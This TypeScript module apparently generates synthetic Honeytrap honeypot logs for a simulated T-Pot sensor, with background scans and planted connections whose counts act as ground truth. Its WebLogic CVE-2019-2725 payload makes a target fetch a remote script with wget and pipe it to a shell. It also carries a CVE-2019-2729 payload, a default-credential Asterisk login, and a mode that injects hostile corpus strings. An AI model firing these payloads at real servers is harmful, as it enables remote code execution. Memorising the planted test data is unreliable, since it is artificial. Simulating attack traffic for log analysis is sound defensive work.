/**
 * Honeytrap (every TCP port no other container claims, via NFQUEUE; in T-Pot 24.x Standard
 * that includes 3389 and 7001) as its logJSON plugin writes `attackers.json`: one line per
 * attack, written at the attack's end, `@timestamp` = start with second precision, the C
 * plugin's spacing (`{ "is_virtual": false, … "downloads": { } }`) as in realdata/tpot-2022.
 * Payload hashes are the real MD5/SHA-512 of the payload bytes.
 *
 * The planted 3389/7001 connections (planted.ts) come through here; background traffic never
 * uses a watched port, so the planted counts are the counts.
 */
import { createHash } from "node:crypto";
import type { Source } from "./addresses.ts";
import { US_PER_HOUR, US_PER_SECOND, honeytrapTimestamp } from "./clock.ts";
import { EphemeralPorts, stream } from "./format.ts";
import type { AttackerField, Emit, FormatGenerator, FormatModule, GeneratorContext, HourWindow, JunkKind, LogRecord, Observation } from "./format.ts";
import { attackerBytes } from "./hostile.ts";
import { RDP_PORT, WEBLOGIC_PORT } from "./planted.ts";
import type { PlantedConnection, PlantedPayload } from "./planted.ts";
import { WeightedTable, rngFor, zipfWeights } from "./prng.ts";
import type { Rng } from "./prng.ts";
import { Rhythm } from "./rhythm.ts";

/** Visits per hour at scale 1 (about 3,000 background connections a week). */
const VISITS_PER_HOUR = 5.8;
/** The host's interface address (a cloud VM behind NAT): Honeytrap runs in host network mode. */
export const HOST_IP = "10.0.0.5";
/** What attackers put in Host headers: the sensor's public address (TEST-NET-2 stands in). */
export const SENSOR_PUBLIC_IP = "198.51.100.2";

// Ports owned by other T-Pot 24.x Standard containers (never seen by Honeytrap) and the watched
// ports (only planted connections use them).
const NOT_HONEYTRAP = new Set([
  20, 21, 22, 23, 25, 42, 69, 80, 81, 104, 110, 135, 143, 161, 443, 445, 465, 587, 623, 631, 993, 995, 1025, 1080, 1433, 1723, 1883, 2087, 2404,
  2575, 3000, 3306, 5000, 5060, 5061, 5432, 5555, 5900, 6379, 8080, 8443, 9100, 9200, 10001, 11112, 27017, 50100, 64294, 64295, 64297, 64298, 64305,
  RDP_PORT, WEBLOGIC_PORT,
]);

const HTTP_PORTS = new Set([8000, 8081, 8088, 8888, 9000, 8090, 8181, 8880, 7070, 81, 10000, 8060, 4567, 49152, 52869, 37215, 60001, 7547]);
const RDP_LIKE = new Set([3388, 3390, 3391, 33890, 33389, 13389]);

// The head of the port distribution, most first (realdata/tpot-2022 and 2019 scan reports).
const HEAD_PORTS = [
  5038, 8088, 8000, 2323, 23023, 7070, 7000, 8081, 8888, 9001, 2222, 9000, 3390, 33890, 3388, 8291, 37215, 52869, 60001, 1521, 5984, 6001, 7547, 8090,
  8181, 10000, 49152, 50000, 4567, 5358, 5431, 2000, 4444, 4899, 5901, 6000, 8060, 8880, 9999, 12345, 16992, 20000, 32764, 55555, 6666, 3391, 13389, 33389,
];

const RDP_COOKIES = new WeightedTable(["hello", "Domain", "Administr", "Test", "admin", "user"], [70, 6, 4, 2, 2, 1]);

export const honeytrapFormat: FormatModule = {
  name: "honeytrap",
  dir: "honeytrap/log",
  streams: [stream("attackers.json")],
  countsAsAttack: true,
  // Hex-encoded: the request's path and User-Agent inside attack_connection.payload.data_hex.
  fields: { "payload.path": "http-path", "payload.user-agent": "user-agent" },
  create: (ctx) => new HoneytrapGenerator(ctx),
};

/** A request line or header can only be read back from the payload when the value has no line break. */
const oneLine = (value: string): boolean => !/[\r\n]/.test(value);

interface Payload {
  length: number;
  hex: string;
  md5: string;
  sha512: string;
}

const EMPTY_PAYLOAD: Payload = payloadOf(Buffer.alloc(0));

function payloadOf(bytes: Buffer): Payload {
  return {
    length: bytes.length,
    hex: bytes.toString("hex"),
    md5: createHash("md5").update(bytes).digest("hex"),
    sha512: createHash("sha512").update(bytes).digest("hex"),
  };
}

/** An RDP X.224 Connection Request with an mstshash cookie, as RDP scanners send. */
function rdpConnectionRequest(name: string): Buffer {
  const cookie = Buffer.from(`Cookie: mstshash=${name}\r\n`, "latin1");
  const negotiation = Buffer.from([0x01, 0x00, 0x08, 0x00, 0x03, 0x00, 0x00, 0x00]);
  const total = 4 + 7 + cookie.length + negotiation.length;
  const header = Buffer.from([0x03, 0x00, total >> 8, total & 0xff, total - 5, 0xe0, 0, 0, 0, 0, 0]);
  return Buffer.concat([header, cookie, negotiation]);
}

const WEBLOGIC_2725_BODY =
  '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:wsa="http://www.w3.org/2005/08/addressing" xmlns:asy="http://www.bea.com/async/AsyncResponseService"><soapenv:Header><wsa:Action>xx</wsa:Action><wsa:RelatesTo>xx</wsa:RelatesTo><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/bash</string></void><void index="1"><string>-c</string></void><void index="2"><string>wget -q -O- http://185.244.25.153/wl.sh | sh</string></void></array><void method="start"/></void></work:WorkContext></soapenv:Header><soapenv:Body><asy:onAsyncDelivery/></soapenv:Body></soapenv:Envelope>';
const WEBLOGIC_2729_BODY =
  '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8" class="java.beans.XMLDecoder"><array method="forName"><string>oracle.toplink.internal.sessions.UnitOfWorkChangeSet</string></array></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>';

/** What a connection carries: a planted kind, or the Asterisk manager login bots send to 5038. */
type PayloadKind = PlantedPayload | "asterisk";

class HoneytrapGenerator implements FormatGenerator {
  private rng: Rng;
  private readonly sweepRng: Rng;
  /** Set while a hostile sweep visit builds its request. */
  private sweepValues: { path: string; agent: string } | null = null;
  private readonly ports: EphemeralPorts;
  private readonly rhythm: Rhythm;
  private readonly headPorts = new WeightedTable(HEAD_PORTS, zipfWeights(HEAD_PORTS.length, 1.05));
  private readonly payloads = new Map<string, Payload>();
  private readonly planted: PlantedConnection[];
  private plantedIndex = 0;

  constructor(private readonly ctx: GeneratorContext) {
    this.rng = ctx.rng;
    this.sweepRng = rngFor(ctx.seed, "honeytrap:hostile");
    this.ports = new EphemeralPorts(rngFor(ctx.seed, "honeytrap:ports"));
    this.rhythm = new Rhythm(rngFor(ctx.seed, "honeytrap:rhythm"), ctx.world.timeZone, { amplitude: 0.25, peakHour: 16, hourlySigma: 0.3, dailySigma: 0.15 });
    this.planted = ctx.planted.connections.filter((c) => c.honeypot === "honeytrap");
  }

  generateHour(hour: HourWindow, emit: (record: LogRecord) => void): void {
    const { rng, ctx } = this;
    const length = hour.endUs - hour.startUs;
    const visits = rng.poisson(VISITS_PER_HOUR * ctx.scale * this.rhythm.factor(hour.startUs) * (length / US_PER_HOUR));
    for (let v = 0; v < visits; v++) {
      const source = ctx.sources.scan.pick(rng);
      let t = hour.startUs + Math.floor(rng.next() * length);
      // Mostly single probes; sometimes a sweep over several ports.
      const sweep = rng.chance(0.12) ? rng.int(3, 25) : 1;
      const repeat = sweep === 1 && rng.chance(0.25) ? rng.int(2, 6) : 1;
      const fixedPort = this.backgroundPort();
      for (let i = 0; i < sweep * repeat; i++) {
        const port = sweep > 1 ? this.backgroundPort() : fixedPort;
        const durationUs = rng.chance(0.03) ? rng.int(60, 20 * 60) * US_PER_SECOND : rng.int(200_000, 5 * US_PER_SECOND);
        this.connection(t, durationUs, port, source, this.backgroundPayload(port), emit, false);
        t += sweep > 1 ? rng.int(10_000, 900_000) : rng.int(1, 30) * US_PER_SECOND;
      }
    }
    while (this.plantedIndex < this.planted.length && this.planted[this.plantedIndex]!.startUs < hour.endUs) {
      const c = this.planted[this.plantedIndex++]!;
      if (c.startUs < hour.startUs) continue;
      this.connection(c.startUs, c.durationUs, c.port, c.source, c.payload, emit, true);
    }
  }

  junk(kind: JunkKind, atUs: number): LogRecord | null {
    if (kind !== "impossible-record") return null;
    // Honeytrap's virtual "ip" connections: epoch-zero times and 0.0.0.0 (realdata shows many).
    const hex = this.rng.pick(["13000103", "0013e0000001080300", "00", "01", ""]);
    const line = `{ "is_virtual": true, "@timestamp": "1970-01-01T00:00:00Z", "start_time": "1970-01-01T00:00:00Z", "end_time": "1970-01-01T00:00:00Z", "attack_connection": { "protocol": "ip", "remote_ip": "0.0.0.0", "remote_port": 0, "local_ip": "0.0.0.0", "local_port": 0, "payload": { "md5_hash": "", "sha512_hash": "", "length": ${hex.length / 2}, "data_hex": "${hex}" } }, "proxy_connection": { "protocol": "ip", "remote_ip": "0.0.0.0", "remote_port": 0, "local_ip": "0.0.0.0", "local_port": 0, "payload": { "md5_hash": "", "sha512_hash": "", "length": 0, "data_hex": "" } }, "operation_mode": 0, "download_count": 0, "download_tries": 0, "downloads": { } }`;
    return { writeUs: atUs, fact: null, junk: kind, line };
  }

  private backgroundPort(): number {
    const rng = this.rng;
    if (rng.chance(0.7)) return this.headPorts.pick(rng);
    for (;;) {
      const port = rng.int(1, 65535);
      if (!NOT_HONEYTRAP.has(port)) return port;
    }
  }

  private backgroundPayload(port: number): PayloadKind {
    if (RDP_LIKE.has(port)) return this.rng.chance(0.8) ? "rdp" : "none";
    if (HTTP_PORTS.has(port)) return this.rng.chance(0.75) ? "http-get" : "none";
    if (port === 5038) return this.rng.chance(0.6) ? "none" : "asterisk";
    return this.rng.chance(0.15) ? "http-get" : "none";
  }

  private payload(kind: PayloadKind, port: number): { payload: Payload; app: Observation["app"]; detail?: string; userAgent?: string; rdpCookie?: string; attacker?: AttackerField[] } {
    const rng = this.rng;
    let text: string | null = null;
    let bytes: Buffer | null = null;
    let app: Observation["app"] = "other";
    let detail: string | undefined;
    let userAgent: string | undefined;
    let rdpCookie: string | undefined;
    let attacker: AttackerField[] | undefined;
    switch (kind) {
      case "rdp":
        rdpCookie = RDP_COOKIES.pick(rng);
        bytes = rdpConnectionRequest(rdpCookie);
        app = "rdp";
        break;
      case "http-get": {
        detail = this.sweepValues?.path ?? this.ctx.values.httpPath(rng);
        userAgent = this.sweepValues?.agent ?? this.ctx.values.userAgent(rng);
        text = `GET ${detail} HTTP/1.1\r\nHost: ${SENSOR_PUBLIC_IP}:${port}\r\nUser-Agent: ${userAgent}\r\nAccept: */*\r\nConnection: close\r\n\r\n`;
        attacker = [["payload.path", detail, oneLine(detail)], ["payload.user-agent", userAgent, oneLine(userAgent)]];
        app = "http";
        break;
      }
      case "weblogic-probe":
        detail = "/console/login/LoginForm.jsp";
        userAgent = this.ctx.values.userAgent(rng);
        text = `GET ${detail} HTTP/1.1\r\nHost: ${SENSOR_PUBLIC_IP}:${port}\r\nUser-Agent: ${userAgent}\r\nAccept: */*\r\n\r\n`;
        attacker = [["payload.user-agent", userAgent, oneLine(userAgent)]];
        app = "http";
        break;
      case "weblogic-2725":
        text = `POST /_async/AsyncResponseService HTTP/1.1\r\nHost: ${SENSOR_PUBLIC_IP}:${port}\r\nContent-Type: text/xml\r\nContent-Length: ${WEBLOGIC_2725_BODY.length}\r\n\r\n${WEBLOGIC_2725_BODY}`;
        app = "weblogic";
        detail = "CVE-2019-2725";
        break;
      case "weblogic-2729":
        text = `POST /wls-wsat/CoordinatorPortType HTTP/1.1\r\nHost: ${SENSOR_PUBLIC_IP}:${port}\r\nContent-Type: text/xml\r\nContent-Length: ${WEBLOGIC_2729_BODY.length}\r\n\r\n${WEBLOGIC_2729_BODY}`;
        app = "weblogic";
        detail = "CVE-2019-2729";
        break;
      case "asterisk":
        text = "Action: Login\r\nUsername: admin\r\nSecret: password\r\n\r\n";
        break;
      default:
        return { payload: EMPTY_PAYLOAD, app: RDP_LIKE.has(port) || port === RDP_PORT ? "rdp" : "other" };
    }
    const key = text ?? bytes!.toString("latin1");
    let payload = this.payloads.get(key);
    if (!payload) {
      // Hostile raw bytes travel as markers in strings: the payload holds the real bytes.
      payload = payloadOf(bytes ?? (this.ctx.hostile ? attackerBytes(text!) : Buffer.from(text!, "utf8")));
      // Bounded: http payloads vary by path, port and user agent only; huge ones are not kept.
      if (this.payloads.size < 50_000 && key.length < 10_000) this.payloads.set(key, payload);
    }
    return {
      payload,
      app,
      ...(detail === undefined ? {} : { detail }),
      ...(userAgent === undefined ? {} : { userAgent }),
      ...(rdpCookie === undefined ? {} : { rdpCookie }),
      ...(attacker === undefined || !this.ctx.hostile ? {} : { attacker }),
    };
  }

  /** Hostile mode: an HTTP request to 8088 whose path and User-Agent come from the corpus (hex-encoded in the line). */
  hostileVisit(atUs: number, emit: Emit): void {
    const h = this.ctx.hostile!;
    this.rng = this.sweepRng;
    try {
      this.sweepValues = { path: h.sweep("http-path", atUs, (p) => oneLine(p.text), () => true), agent: h.sweep("user-agent", atUs, (p) => oneLine(p.text), () => true) };
      this.connection(atUs, this.rng.int(200_000, 3_000_000), 8088, this.ctx.sources.scan.pick(this.rng), "http-get", emit, false, true);
    } finally {
      this.sweepValues = null;
      this.rng = this.ctx.rng;
    }
  }

  private connection(startUs: number, durationUs: number, port: number, source: Source, kind: PayloadKind, emit: (record: LogRecord) => void, planted: boolean, sweep = false): void {
    const { ctx } = this;
    if (!planted && (ctx.availability.isDown("honeytrap", startUs) || ctx.availability.isInterrupted("honeytrap", startUs, startUs + durationUs))) return;
    // Second precision: the line's time is the start truncated to the second.
    const startSec = Math.floor(startUs / US_PER_SECOND) * US_PER_SECOND;
    const endUs = startUs + durationUs;
    const srcPort = this.ports.take(source.ip);
    const { payload, app, detail, userAgent, rdpCookie, attacker } = this.payload(kind, port);
    const line =
      `{ "is_virtual": false, "@timestamp": "${honeytrapTimestamp(startSec)}", "start_time": "${honeytrapTimestamp(startSec)}", "end_time": "${honeytrapTimestamp(endUs)}", ` +
      `"attack_connection": { "protocol": "tcp", "remote_ip": "${source.ip}", "remote_port": ${srcPort}, "local_ip": "${HOST_IP}", "local_port": ${port}, ` +
      `"payload": { "md5_hash": "${payload.md5}", "sha512_hash": "${payload.sha512}", "length": ${payload.length}, "data_hex": "${payload.hex}" } }, ` +
      `"proxy_connection": { "protocol": "ip", "remote_ip": "0.0.0.0", "remote_port": 0, "local_ip": "0.0.0.0", "local_port": 0, "payload": { "md5_hash": "${EMPTY_PAYLOAD.md5}", "sha512_hash": "${EMPTY_PAYLOAD.sha512}", "length": 0, "data_hex": "" } }, ` +
      `"operation_mode": 1, "download_count": 0, "download_tries": 0, "downloads": { } }`;
    const record: LogRecord = { writeUs: endUs, line, fact: { tsUs: startSec, src: source.ip, country: source.country, port, type: "connection" } };
    if (attacker) record.attacker = attacker;
    emit(record);
    ctx.observations.push({
      tsUs: startUs,
      endUs,
      src: source,
      srcPort,
      destPort: port,
      transport: "TCP",
      app,
      ...(detail === undefined ? {} : { detail }),
      ...(userAgent === undefined ? {} : { userAgent }),
      ...(rdpCookie === undefined ? {} : { rdpCookie }),
      ...(sweep ? { sweep: true } : {}),
    });
  }
}
